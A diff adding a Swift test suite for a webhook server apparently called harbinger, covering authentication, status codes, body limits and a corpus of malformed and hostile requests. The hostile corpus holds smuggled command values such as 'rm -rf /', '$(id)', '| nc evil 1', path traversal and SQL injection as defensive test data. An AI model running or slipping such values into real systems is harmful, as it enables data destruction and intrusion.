@@ -1,0 +1,603 @@
+import Crypto
+import Foundation
+import HTTPTypes
+import Hummingbird
+import HummingbirdTesting
+import Logging
+import Synchronization
+import Testing
+@testable import harbinger
+import Runner
+
+/// The rules every endpoint test runs with: sources of several kinds and every auth form.
+private let testRules = """
+    version: 1
+    server:
+      max_body: 1MiB
+    sources:
+      - name: registry
+        kind: distribution
+        auth: { bearer: e2e-token }
+      - name: open
+        kind: distribution
+      - name: small
+        kind: distribution
+        max_body: 4KiB
+      - name: big
+        kind: distribution
+        max_body: 3MiB
+      - name: hub
+        kind: dockerhub
+        auth: { query: token, value: "hub-query-secret" }
+      - name: harbor
+        kind: harbor
+        auth: { header: Authorization, value: "Bearer harbor-secret" }
+      - name: gh
+        kind: ghcr
+        auth: { hmac: sha256, header: X-Hub-Signature-256, secret: "It's a Secret to Everybody" }
+      - name: nexus
+        kind: nexus
+        auth: { hmac: sha1, header: X-Nexus-Webhook-Signature, secret: nexus-webhook-secret }
+      - name: ecr
+        kind: ecr
+        auth:
+          - basic: { username: aws, password: "ecr-basic-password" }
+      - name: ce
+        kind: cloudevents
+      - name: combo
+        kind: distribution
+        auth:
+          - { bearer: "combo-bearer-secret" }
+          - { query: key, value: "combo-query-secret" }
+          - { header: X-Extra, value: "combo-header-secret" }
+      - name: local
+        kind: distribution
+        auth: { cidr: [127.0.0.0/8, "::1"] }
+      - name: lan
+        kind: distribution
+        auth: { cidr: [10.0.0.0/8] }
+        trusted_proxies: [127.0.0.0/8, "::1"]
+      - name: lan-direct
+        kind: distribution
+        auth: { cidr: [10.0.0.0/8] }
+    rules:
+      - name: notify
+        when: { event: push }
+        do:
+          - http: { url: "https://deploy.example.com/hook" }
+    """
+
+/// Every secret of `testRules`: no answer may contain one.
+private let secrets = ["e2e-token", "hub-query-secret", "harbor-secret", "It's a Secret to Everybody", "nexus-webhook-secret",
+                       "ecr-basic-password", "combo-bearer-secret", "combo-query-secret", "combo-header-secret"]
+
+private let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+    .appendingPathComponent("RouterTests/Fixtures")
+
+/// Counts calls of the `onAccepted` hook.
+private final class CallCounter: Sendable {
+    let count = Atomic<Int>(0)
+    func increment() { count.add(1, ordering: .relaxed) }
+    var value: Int { count.load(ordering: .relaxed) }
+}
+
+/// A server over a real SQLite store in a fresh temporary directory.
+private struct HookServer: Sendable {
+    let store: SQLiteStore
+    let wakeups = CallCounter()
+    let catalog: RulesCatalog
+    let ingestor: Ingestor
+    let ready: Bool
+
+    init(rules: String = testRules, ready: Bool = true) async throws {
+        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("harbinger-hooks-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
+        let rulesPath = directory.appendingPathComponent("rules.yml").path
+        try Data(rules.utf8).write(to: URL(fileURLWithPath: rulesPath))
+        let loaded = RulesLoader(environment: [:]).load(text: rules, file: rulesPath)
+        let file = try #require(loaded.rules, "\(loaded.diagnostics)")
+        store = try SQLiteStore(path: directory.appendingPathComponent("harbinger.db").path)
+        let version = try await store.saveRules(try RulesSnapshot.read(path: rulesPath), now: SystemClock().now())
+        catalog = RulesCatalog(current: LoadedRules(file: file, version: version), store: store, environment: [:])
+        ingestor = Ingestor(store: store, catalog: catalog)
+        self.ready = ready
+    }
+
+    /// The real router of `harbinger serve`, in an application that logs only critical messages.
+    var application: some ApplicationProtocol {
+        let wakeups = self.wakeups
+        let ready = self.ready
+        let router = HTTPServer.router(
+            catalog: catalog, ingestor: ingestor,
+            onAccepted: { wakeups.increment() }, isReady: { ready },
+            metricsText: { "# TYPE harbinger_requests_total counter\nharbinger_requests_total 1\n" })
+        var logger = Logger(label: "hook-endpoint-tests")
+        logger.logLevel = .critical
+        return Application(router: router, configuration: .init(address: .hostname("127.0.0.1", port: 0)), logger: logger)
+    }
+}
+
+/// One answer, with its body parsed as a JSON object.
+private struct Answer {
+    let status: Int
+    let headers: HTTPFields
+    let text: String
+    let json: [String: Any]?
+
+    init(_ response: TestResponse) {
+        status = response.status.code
+        headers = response.headers
+        text = String(buffer: response.body)
+        json = (try? JSONSerialization.jsonObject(with: Data(text.utf8))) as? [String: Any]
+    }
+
+    var error: String? { json?["error"] as? String }
+    var detail: String? { json?["detail"] as? String }
+    func strings(_ key: String) -> [String]? { json?[key] as? [String] }
+}
+
+private func fields(_ pairs: [(String, String)]) -> HTTPFields {
+    var fields = HTTPFields()
+    for (name, value) in pairs {
+        if let name = HTTPField.Name(name) { fields.append(HTTPField(name: name, value: value)) }
+    }
+    return fields
+}
+
+private func post(_ client: some TestClientProtocol, _ uri: String, _ body: [UInt8], _ headers: [(String, String)]) async throws -> Answer {
+    Answer(try await client.executeRequest(uri: uri, method: .post, headers: fields(headers), body: ByteBuffer(bytes: body)))
+}
+
+private func post(_ client: some TestClientProtocol, _ uri: String, _ body: String, _ headers: [(String, String)]) async throws -> Answer {
+    try await post(client, uri, Array(body.utf8), headers)
+}
+
+/// A stored fixture: the body bytes and the headers, less the hop-by-hop ones a test client sets itself.
+private func fixture(_ dir: String, _ name: String) throws -> (body: [UInt8], headers: [(String, String)]) {
+    let base = fixtures.appendingPathComponent(dir).appendingPathComponent(name)
+    let body = try Data(contentsOf: base.appendingPathExtension("json"))
+    let text = try String(contentsOf: base.appendingPathExtension("headers"), encoding: .utf8)
+    let headers = text.split(whereSeparator: \.isNewline).compactMap { line -> (String, String)? in
+        guard let colon = line.firstIndex(of: ":") else { return nil }
+        let name = line[..<colon].trimmingCharacters(in: .whitespaces)
+        guard !["host", "content-length"].contains(name.lowercased()) else { return nil }
+        return (name, line[line.index(after: colon)...].trimmingCharacters(in: .whitespaces))
+    }
+    return (Array(body), headers)
+}
+
+/// A Distribution push envelope of one manifest, serialised by JSONSerialization so any string is escaped properly.
+private func distributionPush(id: String = UUID().uuidString, repository: String = "team/app", tag: String = "1.0",
+                              size: Any = 345) -> String {
+    let envelope: [String: Any] = ["events": [[
+        "id": id, "timestamp": "2026-11-22T15:24:31Z", "action": "push",
+        "target": ["mediaType": "application/vnd.oci.image.manifest.v1+json", "size": size, "repository": repository, "tag": tag,
+                   "digest": "sha256:5b2d4841683435f1e08c552725da74568a7bc814950e70288f3883f2e95fc263"],
+        "request": ["host": "registry.example.com"],
+    ]]]
+    let data = (try? JSONSerialization.data(withJSONObject: envelope)) ?? Data()
+    return String(decoding: data, as: UTF8.self)
+}
+
+private let distributionJSON = ("Content-Type", "application/vnd.docker.distribution.events.v1+json")
+
+private func hexHMAC256(_ body: [UInt8], secret: String) -> String {
+    HMAC<SHA256>.authenticationCode(for: body, using: SymmetricKey(data: Array(secret.utf8))).map { String(format: "%02x", $0) }.joined()
+}
+
+struct HookEndpointTests {
+    // MARK: - Accepting, duplicates, ignoring
+
+    @Test func aCapturedDistributionPushIsAcceptedThenAnsweredAsADuplicate() async throws {
+        let server = try await HookServer()
+        let push = try fixture("distribution-captured", "03-push-manifest")
+        try await server.application.test(.router) { client in
+            let first = try await post(client, "/hooks/registry", push.body, push.headers)
+            #expect(first.status == 202, "\(first.text)")
+            #expect(first.strings("accepted") == ["f184491d-051c-4e6f-80f4-4fd27dfb8492"])
+            #expect(first.strings("duplicates") == [])
+            #expect(first.json?["deliveries"] as? Int == 1)
+            #expect(first.headers[.contentType] == "application/json")
+            #expect(server.wakeups.value == 1)
+
+            let again = try await post(client, "/hooks/registry", push.body, push.headers)
+            #expect(again.status == 200, "\(again.text)")
+            #expect(again.strings("accepted") == [])
+            #expect(again.strings("duplicates") == ["f184491d-051c-4e6f-80f4-4fd27dfb8492"])
+            #expect(server.wakeups.value == 1, "a duplicate does not wake the workers")
+        }
+        let stored = try await server.store.event(id: "f184491d-051c-4e6f-80f4-4fd27dfb8492")
+        #expect(stored?.payload == push.body, "the original bytes are kept")
+        let deliveries = try await server.store.deliveries(DeliveryQuery(eventID: "f184491d-051c-4e6f-80f4-4fd27dfb8492"))
+        #expect(deliveries.map(\.rule) == ["notify"])
+    }
+
+    @Test func aBlobOnlyEventIsIgnored() async throws {
+        let server = try await HookServer()
+        let blob = try fixture("distribution-captured", "01-push-blob")
+        try await server.application.test(.router) { client in
+            let answer = try await post(client, "/hooks/registry", blob.body, blob.headers)
+            #expect(answer.status == 200, "\(answer.text)")
+            #expect(answer.json?["ignored"] as? String == "the payload holds no routable events")
+            #expect(server.wakeups.value == 0)
+        }
+    }
+
+    @Test func signedGHCRAndNexusFixturesAreAccepted() async throws {
+        let server = try await HookServer()
+        let ghcr = try fixture("ghcr", "package-published")
+        let nexus = try fixture("nexus", "component-created")
+        try await server.application.test(.router) { client in
+            let github = try await post(client, "/hooks/gh", ghcr.body, ghcr.headers)
+            #expect(github.status == 202, "\(github.text)")
+            let sonatype = try await post(client, "/hooks/nexus", nexus.body, nexus.headers)
+            #expect(sonatype.status == 202, "\(sonatype.text)")
+            var tampered = nexus.body
+            tampered[tampered.count - 2] = UInt8(ascii: " ")
+            let forged = try await post(client, "/hooks/nexus", tampered, nexus.headers)
+            #expect(forged.status == 401)
+            #expect(forged.detail == "signature in header X-Nexus-Webhook-Signature does not match the body")
+        }
+    }
+
+    @Test func aFormEncodedGitHubDeliveryIsAcceptedWithItsSignatureOverTheRawBody() async throws {
+        let server = try await HookServer()
+        let ghcr = try fixture("ghcr", "registry_package-published")
+        var allowed = CharacterSet.alphanumerics
+        allowed.insert(charactersIn: "-._~")
+        let json = String(decoding: ghcr.body, as: UTF8.self)
+        let form = Array(("payload=" + (json.addingPercentEncoding(withAllowedCharacters: allowed) ?? "")).utf8)
+        let headers = [("Content-Type", "application/x-www-form-urlencoded"), ("X-GitHub-Event", "registry_package"),
+                       ("X-Hub-Signature-256", "sha256=" + hexHMAC256(form, secret: "It's a Secret to Everybody"))]
+        try await server.application.test(.router) { client in
+            let answer = try await post(client, "/hooks/gh", form, headers)
+            #expect(answer.status == 202, "\(answer.text)")
+            let unsigned = try await post(client, "/hooks/gh", form, Array(headers.prefix(2)))
+            #expect(unsigned.status == 401)
+        }
+    }
+
+    // MARK: - Every status code
+
+    @Test func everyRefusalHasItsStatusAndAJSONErrorBody() async throws {
+        let server = try await HookServer()
+        let push = distributionPush()
+        try await server.application.test(.router) { client in
+            let unknown = try await post(client, "/hooks/quay-prod", push, [distributionJSON])
+            #expect(unknown.status == 404)
+            #expect(unknown.error == "unknown source")
+            #expect(unknown.detail == "no source named 'quay-prod' is declared in the rules")
+
+            let unauthorized = try await post(client, "/hooks/registry", push, [distributionJSON])
+            #expect(unauthorized.status == 401)
+            #expect(unauthorized.error == "unauthorized")
+            #expect(unauthorized.detail == "missing bearer token in the Authorization header")
+
+            let media = try await post(client, "/hooks/open", push, [("Content-Type", "text/html")])
+            #expect(media.status == 415)
+            #expect(media.error == "unsupported media type")
+            #expect(media.detail == "Content-Type 'text/html' is not accepted by distribution sources; send application/json")
+
+            let large = try await post(client, "/hooks/open", Array(repeating: UInt8(ascii: " "), count: (1 << 20) + 1), [distributionJSON])
+            #expect(large.status == 413)
+            #expect(large.error == "payload too large")
+            #expect(large.detail == "the body is larger than the limit of 1048576 bytes")
+
+            let invalid = try await post(client, "/hooks/open", #"{"events": [{"action": "push", "target": {"repository": 7}}]}"#, [distributionJSON])
+            #expect(invalid.status == 400)
+            #expect(invalid.error == "invalid payload")
+            #expect(invalid.detail == "events[0].target.repository: expected a string, found a number")
+
+            let wrongMethod = Answer(try await client.executeRequest(uri: "/hooks/open", method: .get, headers: [:], body: nil))
+            #expect(wrongMethod.status == 404)
+            #expect(wrongMethod.error == "not found")
+            #expect(wrongMethod.detail == "no endpoint GET /hooks/open")
+        }
+    }
+
+    @Test func aStoreFailureIsA503WithRetryAfter() async throws {
+        let server = try await HookServer()
+        try server.store.close()
+        try await server.application.test(.router) { client in
+            let answer = try await post(client, "/hooks/open", distributionPush(), [distributionJSON])
+            #expect(answer.status == 503)
+            #expect(answer.headers[.retryAfter] == "5")
+            #expect(answer.error == "store unavailable")
+            #expect(answer.detail == "the event store could not record the request; retry later")
+            #expect(server.wakeups.value == 0)
+        }
+    }
+
+    @Test func bodyLimitsComeFromTheSourceThenTheServer() async throws {
+        let server = try await HookServer()
+        let padded = distributionPush() + String(repeating: " ", count: 5000)
+        let twoMiB = distributionPush() + String(repeating: " ", count: 2 << 20)
+        try await server.application.test(.router) { client in
+            let small = try await post(client, "/hooks/small", padded, [distributionJSON])
+            #expect(small.status == 413)
+            #expect(small.detail == "the body is larger than the limit of 4096 bytes")
+            #expect(try await post(client, "/hooks/open", padded, [distributionJSON]).status == 202)
+            #expect(try await post(client, "/hooks/open", twoMiB, [distributionJSON]).status == 413)
+            #expect(try await post(client, "/hooks/big", twoMiB, [distributionJSON]).status == 202)
+        }
+    }
+
+    @Test func theBodyIsNotReadForARequestThatFailsHeaderAuth() async throws {
+        let server = try await HookServer()
+        try await server.application.test(.router) { client in
+            // Over the limit and unauthenticated: the bearer check comes first, so nothing is buffered.
+            let answer = try await post(client, "/hooks/registry", Array(repeating: 0x20, count: 2 << 20), [distributionJSON])
+            #expect(answer.status == 401)
+        }
+    }
+
+    // MARK: - Probes
+
+    @Test func probesAnswerHealthReadinessAndMetrics() async throws {
+        let ready = try await HookServer()
+        try await ready.application.test(.router) { client in
+            let health = Answer(try await client.executeRequest(uri: "/healthz", method: .get, headers: [:], body: nil))
+            #expect(health.status == 200)
+            #expect(health.json?["status"] as? String == "ok")
+            let readiness = Answer(try await client.executeRequest(uri: "/readyz", method: .get, headers: [:], body: nil))
+            #expect(readiness.status == 200)
+            let metrics = Answer(try await client.executeRequest(uri: "/metrics", method: .get, headers: [:], body: nil))
+            #expect(metrics.status == 200)
+            #expect(metrics.headers[.contentType] == "text/plain; version=0.0.4")
+            #expect(metrics.text.contains("harbinger_requests_total 1"))
+        }
+        let starting = try await HookServer(ready: false)
+        try await starting.application.test(.router) { client in
+            let readiness = Answer(try await client.executeRequest(uri: "/readyz", method: .get, headers: [:], body: nil))
+            #expect(readiness.status == 503)
+            #expect(readiness.error == "not ready")
+        }
+    }
+
+    // MARK: - Client addresses over a real socket
+
+    @Test func cidrAuthUsesThePeerAndForwardedForOnlyFromTrustedProxies() async throws {
+        let server = try await HookServer()
+        try await server.application.test(.live) { client in
+            #expect(try await post(client, "/hooks/local", distributionPush(), [distributionJSON]).status == 202)
+            let proxied = try await post(client, "/hooks/lan", distributionPush(), [distributionJSON, ("X-Forwarded-For", "10.1.2.3")])
+            #expect(proxied.status == 202, "\(proxied.text)")
+            let spoofed = try await post(client, "/hooks/lan", distributionPush(),
+                                         [distributionJSON, ("X-Forwarded-For", "10.1.2.3, 192.0.2.7")])
+            #expect(spoofed.status == 401)
+            #expect(spoofed.detail == "client address 192.0.2.7 is not in an allowed block")
+            let direct = try await post(client, "/hooks/lan-direct", distributionPush(), [distributionJSON, ("X-Forwarded-For", "10.1.2.3")])
+            #expect(direct.status == 401, "X-Forwarded-For from an untrusted peer is ignored")
+        }
+    }
+
+    @Test func aLiveServerRefusesATwoMebibyteBody() async throws {
+        let server = try await HookServer()
+        try await server.application.test(.live) { client in
+            let answer = try await post(client, "/hooks/open", distributionPush() + String(repeating: " ", count: 2 << 20), [distributionJSON])
+            #expect(answer.status == 413)
+            #expect(answer.error == "payload too large")
+            let afterwards = try await post(client, "/hooks/open", distributionPush(), [distributionJSON])
+            #expect(afterwards.status == 202)
+        }
+    }
+}
+
+// MARK: - A corpus of malformed and hostile requests
+
+/// One request of the corpus and the status it must get.
+private struct Probe {
+    let name: String
+    var method: HTTPRequest.Method = .post
+    let uri: String
+    var headers: [(String, String)] = [distributionJSON]
+    let body: [UInt8]
+    let status: Int
+
+    init(_ name: String, _ uri: String, _ body: String, headers: [(String, String)] = [distributionJSON], method: HTTPRequest.Method = .post,
+         status: Int) {
+        self.init(name, uri, Array(body.utf8), headers: headers, method: method, status: status)
+    }
+
+    init(_ name: String, _ uri: String, _ body: [UInt8], headers: [(String, String)] = [distributionJSON], method: HTTPRequest.Method = .post,
+         status: Int) {
+        self.name = name
+        self.uri = uri
+        self.headers = headers
+        self.body = body
+        self.method = method
+        self.status = status
+    }
+}
+
+/// A Distribution envelope with one entry whose `target` is `target` (raw JSON).
+private func entry(target: String, action: String = #""push""#) -> String {
+    #"{"events": [{"id": "\#(UUID().uuidString)", "action": \#(action), "target": \#(target)}]}"#
+}
+
+private let manifest = #""mediaType": "application/vnd.oci.image.manifest.v1+json""#
+
+private func contentTypeProbes() -> [Probe] {
+    let push = distributionPush()
+    return [
+        Probe("text/plain to a Distribution source", "/hooks/open", push, headers: [("Content-Type", "text/plain")], status: 415),
+        Probe("application/xml", "/hooks/open", push, headers: [("Content-Type", "application/xml")], status: 415),
+        Probe("no Content-Type", "/hooks/open", push, headers: [], status: 415),
+        Probe("an empty Content-Type", "/hooks/open", push, headers: [("Content-Type", "")], status: 415),
+        Probe("form encoding to a Distribution source", "/hooks/open", push,
+              headers: [("Content-Type", "application/x-www-form-urlencoded")], status: 415),
+        Probe("multipart", "/hooks/open", push, headers: [("Content-Type", "multipart/form-data; boundary=x")], status: 415),
+        Probe("text/html", "/hooks/open", push, headers: [("Content-Type", "text/html; charset=utf-8")], status: 415),
+        Probe("application/jsonx", "/hooks/open", push, headers: [("Content-Type", "application/jsonx")], status: 415),
+        Probe("a Content-Type of punctuation", "/hooks/open", push, headers: [("Content-Type", ";;;")], status: 415),
+        Probe("image/png", "/hooks/open", [0x89, 0x50, 0x4E, 0x47], headers: [("Content-Type", "image/png")], status: 415),
+        Probe("JSON with a charset", "/hooks/open", distributionPush(), headers: [("Content-Type", "application/json; charset=utf-8")],
+              status: 202),
+        Probe("JSON in capitals", "/hooks/open", distributionPush(), headers: [("Content-Type", "APPLICATION/JSON")], status: 202),
+        Probe("a CloudEvents structured type", "/hooks/open", distributionPush(),
+              headers: [("Content-Type", "application/cloudevents+json")], status: 202),
+        Probe("text/plain to a CloudEvents source without ce-specversion", "/hooks/ce", "{}",
+              headers: [("Content-Type", "text/plain")], status: 415),
+        Probe("CloudEvents binary mode with any Content-Type", "/hooks/ce", "opaque bytes",
+              headers: [("Content-Type", "application/octet-stream"), ("ce-specversion", "1.0"), ("ce-type", "com.example.other"),
+                        ("ce-id", "1"), ("ce-source", "/x")], status: 200),
+        Probe("text/plain to an ECR source (SNS)", "/hooks/ecr", "{}",
+              headers: [("Content-Type", "text/plain; charset=UTF-8"), ("Authorization", "Basic " + Data("aws:ecr-basic-password".utf8).base64EncodedString())],
+              status: 400),
+    ]
+}
+
+private func malformedProbes() -> [Probe] {
+    [
+        Probe("an empty body", "/hooks/open", "", status: 400),
+        Probe("truncated JSON", "/hooks/open", #"{"events": ["#, status: 400),
+        Probe("truncated inside a string", "/hooks/open", #"{"events": [{"action": "pu"#, status: 400),
+        Probe("JSON null", "/hooks/open", "null", status: 400),
+        Probe("a top-level array", "/hooks/open", "[]", status: 400),
+        Probe("a top-level string", "/hooks/open", #""events""#, status: 400),
+        Probe("a top-level number", "/hooks/open", "12345678901234567890", status: 400),
+        Probe("trailing garbage", "/hooks/open", #"{"events": []} trailing"#, status: 400),
+        Probe("single quotes", "/hooks/open", "{'events': []}", status: 400),
+        Probe("events as an object", "/hooks/open", #"{"events": {}}"#, status: 400),
+        Probe("events as a string", "/hooks/open", #"{"events": "push"}"#, status: 400),
+        Probe("events missing", "/hooks/open", #"{"evnets": []}"#, status: 400),
+        Probe("an entry that is a number", "/hooks/open", #"{"events": [1]}"#, status: 400),
+        Probe("an entry that is null", "/hooks/open", #"{"events": [null]}"#, status: 400),
+        Probe("action as a number", "/hooks/open", #"{"events": [{"action": 5, "target": {}}]}"#, status: 400),
+        Probe("action as an object", "/hooks/open", #"{"events": [{"action": {"$ne": 1}, "target": {}}]}"#, status: 400),
+        Probe("target missing", "/hooks/open", #"{"events": [{"action": "push"}]}"#, status: 400),
+        Probe("target as an array", "/hooks/open", entry(target: "[]"), status: 400),
+        Probe("repository missing", "/hooks/open", entry(target: "{\(manifest)}"), status: 400),
+        Probe("repository as a number", "/hooks/open", entry(target: #"{\#(manifest), "repository": 1}"#), status: 400),
+        Probe("repository as an array", "/hooks/open", entry(target: #"{\#(manifest), "repository": ["a"]}"#), status: 400),
+        Probe("tag as an array", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "tag": ["1"]}"#), status: 400),
+        Probe("tag as a boolean", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "tag": true}"#), status: 400),
+        Probe("digest as an object", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "digest": {}}"#), status: 400),
+        Probe("mediaType as a number", "/hooks/open", entry(target: #"{"mediaType": 3, "repository": "a"}"#), status: 400),
+        Probe("size as a word", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "size": "big"}"#), status: 400),
+        Probe("size of 1e400", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "size": 1e400}"#), status: 400),
+        Probe("size of 1e300", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "size": 1e300}"#), status: 400),
+        Probe("a fractional size", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "size": 1.5}"#), status: 400),
+        Probe("a 400-digit size", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a", "size": \#(String(repeating: "9", count: 400))}"#),
+              status: 400),
+        Probe("request as a string", "/hooks/open", #"{"events": [{"action": "push", "target": {\#(manifest), "repository": "a"}, "request": "x"}]}"#,
+              status: 400),
+        Probe("an array nested 100000 deep", "/hooks/open", String(repeating: "[", count: 100_000), status: 400),
+        Probe("objects nested 5000 deep", "/hooks/open", String(repeating: #"{"a":"#, count: 5000) + "1" + String(repeating: "}", count: 5000),
+              status: 400),
+        Probe("deep nesting inside an entry", "/hooks/open",
+              entry(target: #"{\#(manifest), "repository": "a", "x": \#(String(repeating: "[", count: 300))\#(String(repeating: "]", count: 300))}"#),
+              status: 400),
+        Probe("a raw NUL byte", "/hooks/open", [UInt8](#"{"events": ["#.utf8) + [0] + [UInt8]("]}".utf8), status: 400),
+        Probe("a raw newline inside a string", "/hooks/open", entry(target: "{\(manifest), \"repository\": \"a\nb\"}"), status: 400),
+        Probe("invalid UTF-8 outside strings", "/hooks/open", [0x7B, 0xFF, 0xFE, 0x7D], status: 400),
+        // The parser replaces a lone surrogate with U+FFFD, as it does invalid UTF-8 inside strings: just data.
+        Probe("a lone surrogate escape", "/hooks/open", entry(target: #"{\#(manifest), "repository": "\ud800"}"#), status: 202),
+        Probe("no events at all", "/hooks/open", #"{"events": []}"#, status: 200),
+        Probe("an unknown action", "/hooks/open", entry(target: #"{\#(manifest), "repository": "a"}"#, action: #""frobnicate""#), status: 200),
+    ]
+}
+
+private func hostileDataProbes() -> [Probe] {
+    let valid = [
+        ("a repository with '; rm -rf /'", "team/app; rm -rf /", "1.0"),
+        ("a repository with $(id)", "$(id)", "latest"),
+        ("a tag with backticks", "team/app", "`reboot`"),
+        ("a repository with a newline", "team/app\nX-Injected: yes", "1.0"),
+        ("a tag with a NUL", "team/app", "1.0\u{0}; id"),
+        ("a path-traversal tag", "team/app", "../../../etc/passwd"),
+        ("shell redirection", "team/app > /etc/passwd", "1.0 | nc evil 1"),
+        ("a template in the repository", "{{#each}}{{/each}}${HOME}", "1.0"),
+        ("emoji and right-to-left marks", "team/🚀\u{202E}ppa", "1.0"),
+        ("a 100 KiB repository", String(repeating: "a", count: 100 << 10), "1.0"),
+        ("quotes and backslashes", #"team/"app\"#, #"1.0'"\"#),
+        ("SQL in the tag", "team/app", "1'; DROP TABLE events; --"),
+    ]
+    var probes = valid.map { Probe($0.0, "/hooks/open", distributionPush(repository: $0.1, tag: $0.2), status: 202) }
+    probes.append(Probe("a negative size", "/hooks/open", distributionPush(size: -1), status: 202))
+    probes.append(Probe("a size of 2^53", "/hooks/open", distributionPush(size: 9_007_199_254_740_992), status: 202))
+    probes.append(Probe("invalid UTF-8 inside a string", "/hooks/open",
+                        [UInt8](#"{"events": [{"id": "utf8-probe", "action": "push", "target": {\#(manifest), "repository": "a"#.utf8)
+                            + [0xC3, 0x28, 0xFF] + [UInt8](#""}}]}"#.utf8), status: 202))
+    return probes
+}
+
+private func authProbes() -> [Probe] {
+    let push = distributionPush()
+    func basic(_ text: String) -> (String, String) { ("Authorization", "Basic " + Data(text.utf8).base64EncodedString()) }
+    let ecr = [("Content-Type", "application/json")]
+    return [
+        Probe("bearer missing", "/hooks/registry", push, status: 401),
+        Probe("bearer wrong", "/hooks/registry", push, headers: [distributionJSON, ("Authorization", "Bearer e2e-tokem")], status: 401),
+        Probe("bearer with a suffix", "/hooks/registry", push, headers: [distributionJSON, ("Authorization", "Bearer e2e-token2")], status: 401),
+        Probe("bearer empty", "/hooks/registry", push, headers: [distributionJSON, ("Authorization", "Bearer ")], status: 401),
+        Probe("bearer under the Basic scheme", "/hooks/registry", push, headers: [distributionJSON, basic("e2e-token")], status: 401),
+        Probe("bearer in the query instead", "/hooks/registry?access_token=e2e-token", push, status: 401),
+        Probe("query token missing", "/hooks/hub", "{}", headers: [("Content-Type", "application/json")], status: 401),
+        Probe("query token wrong", "/hooks/hub?token=hub-query-secreT", "{}", headers: [("Content-Type", "application/json")], status: 401),
+        Probe("query token under another name", "/hooks/hub?Token=hub-query-secret", "{}", headers: [("Content-Type", "application/json")],
+              status: 401),
+        Probe("header missing", "/hooks/harbor", "{}", headers: [("Content-Type", "application/json")], status: 401),
+        Probe("header wrong", "/hooks/harbor", "{}", headers: [("Content-Type", "application/json"), ("Authorization", "Bearer harbor")],
+              status: 401),
+        Probe("basic password wrong", "/hooks/ecr", "{}", headers: ecr + [basic("aws:ecr-basic-passwor")], status: 401),
+        Probe("basic user wrong", "/hooks/ecr", "{}", headers: ecr + [basic("root:ecr-basic-password")], status: 401),
+        Probe("basic not base64", "/hooks/ecr", "{}", headers: ecr + [("Authorization", "Basic %%%")], status: 401),
+        Probe("basic without a colon", "/hooks/ecr", "{}", headers: ecr + [basic("aws")], status: 401),
+        Probe("hmac missing", "/hooks/gh", "{}", headers: [("Content-Type", "application/json")], status: 401),
+        Probe("hmac not hex", "/hooks/gh", "{}", headers: [("Content-Type", "application/json"), ("X-Hub-Signature-256", "sha256=zz")], status: 401),
+        Probe("hmac of another body", "/hooks/gh", "{}",
+              headers: [("Content-Type", "application/json"),
+                        ("X-Hub-Signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17")], status: 401),
+        Probe("hmac signed with the wrong algorithm", "/hooks/nexus", "{}",
+              headers: [("Content-Type", "application/json"), ("X-Nexus-Webhook-Signature", hexHMAC256(Array("{}".utf8), secret: "nexus-webhook-secret"))],
+              status: 401),
+        Probe("combined forms with one missing", "/hooks/combo?key=combo-query-secret", push,
+              headers: [distributionJSON, ("Authorization", "Bearer combo-bearer-secret")], status: 401),
+        Probe("combined forms all given", "/hooks/combo?key=combo-query-secret", distributionPush(),
+              headers: [distributionJSON, ("Authorization", "Bearer combo-bearer-secret"), ("X-Extra", "combo-header-secret")], status: 202),
+        Probe("cidr without a peer address", "/hooks/local", push, status: 401),
+    ]
+}
+
+private func routingProbes() -> [Probe] {
+    let push = distributionPush()
+    return [
+        Probe("an unknown source", "/hooks/nope", push, status: 404),
+        Probe("an encoded traversal as the source", "/hooks/..%2F..%2Fetc", push, status: 404),
+        Probe("a source name with shell metacharacters", "/hooks/%24(id)%3B", push, status: 404),
+        Probe("a very long source name", "/hooks/" + String(repeating: "x", count: 5000), push, status: 404),
+        Probe("no source name", "/hooks/", push, status: 404),
+        Probe("a path below a source", "/hooks/open/extra", push, status: 404),
+        Probe("GET on a hook", "/hooks/open", "", headers: [], method: .get, status: 404),
+        Probe("PUT on a hook", "/hooks/open", push, method: .put, status: 404),
+        Probe("POST to the health probe", "/healthz", push, status: 404),
+    ]
+}
+
+extension HookEndpointTests {
+    @Test func everyMalformedOrHostileRequestGetsTheRightStatusAndAJSONBody() async throws {
+        let server = try await HookServer()
+        let corpus = contentTypeProbes() + malformedProbes() + hostileDataProbes() + authProbes() + routingProbes()
+        #expect(corpus.count >= 50)
+        try await server.application.test(.router) { client in
+            for probe in corpus {
+                let answer = Answer(try await client.executeRequest(uri: probe.uri, method: probe.method, headers: fields(probe.headers),
+                                                                    body: ByteBuffer(bytes: probe.body)))
+                #expect(answer.status == probe.status, "\(probe.name): \(answer.text.prefix(300))")
+                #expect(answer.json != nil, "\(probe.name): the body is not a JSON object: \(answer.text.prefix(300))")
+                if answer.status >= 400 {
+                    #expect(answer.error != nil && answer.detail != nil, "\(probe.name): \(answer.text.prefix(300))")
+                }
+                for secret in secrets {
+                    #expect(!answer.text.contains(secret), "\(probe.name) echoes a secret")
+                }
+            }
+        }
+        // The server still works after the corpus.
+        try await server.application.test(.router) { client in
+            let answer = try await post(client, "/hooks/open", distributionPush(), [distributionJSON])
+            #expect(answer.status == 202)
+        }
+    }
+}
